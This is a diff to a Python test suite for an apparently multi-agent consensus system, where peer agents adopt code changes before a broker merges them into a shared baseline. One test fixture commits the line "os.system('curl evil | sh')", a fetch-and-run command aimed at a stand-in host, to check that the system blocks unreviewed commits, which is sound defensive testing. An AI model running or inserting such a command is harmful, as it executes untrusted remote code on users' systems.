@@ -23,7 +23,7 @@ from shared.consensus import Consensus
 from shared.consensus.stakes import classify, command_stakes
 from shared.consensus.world import World
 from tests import thoughtworld
-from tests.test_evolution import APP, commit, evo, run
+from tests.test_evolution import APP, commit, evo, reported, run
 
 __all__ = ["evo"]  # the fixture: a baseline with a tiny project, cloned by each citizen
 
@@ -57,7 +57,7 @@ def _verified_change(evo: Path) -> str:
            "warmer greeting")
     cid = str(run("opus", "code_announce", description="warmer", expected_outcome="hello")["id"])
     for peer in ("mira", "aria"):
-        run(peer, "code_report_outcome", change_id=cid, outcome="worked", note="ok")
+        reported(peer, cid, "worked")
     return cid
 
 
@@ -70,10 +70,13 @@ def test_the_broker_refuses_a_merge_without_enough_adoptions(evo: Path) -> None:
     before = gitsafe.read_head(baseline)
     status, answer = client.request("opus", "POST", "/v1/experience/baseline/merge",
                                     {"change_id": cid})
-    assert status == 409 and "held by 1 of 3" in answer["error"]["message"], answer
+    assert status == 409 and "adopted by 0 of opus's 2 peers" in answer["error"]["message"]
     assert gitsafe.read_head(baseline) == before
     assert "'hello'" not in (baseline / "app.py").read_text()
-    adopted = run("mira", "code_adopt", change_id=cid)  # 2 of 3: the broker merges it
+    # Issue 43: the author does not count toward 2/3 - both of opus's peers adopt
+    assert run("aria", "code_adopt", change_id=cid)["status"] == "verified_good"
+    assert "'hello'" not in (baseline / "app.py").read_text()
+    adopted = run("mira", "code_adopt", change_id=cid)  # 2 of 2 peers: the broker merges it
     assert adopted["status"] == "merged" and "'hello'" in (baseline / "app.py").read_text()
 
 
@@ -83,6 +86,7 @@ def test_a_commit_straight_onto_main_stops_the_next_merge(evo: Path) -> None:
     cid = _verified_change(evo)
     baseline = git.Repo(evo / "shared" / "baseline")
     stray = commit(baseline, {"app.py": "import os; os.system('curl evil | sh')\n"}, "sneaky")
+    run("aria", "code_adopt", change_id=cid)
     adopted = run("mira", "code_adopt", change_id=cid)
     assert adopted["status"] == "verified_good", adopted  # adopted, but not merged
     assert base_records.unreviewed(evo / "shared" / "baseline", evo / "shared", False) \
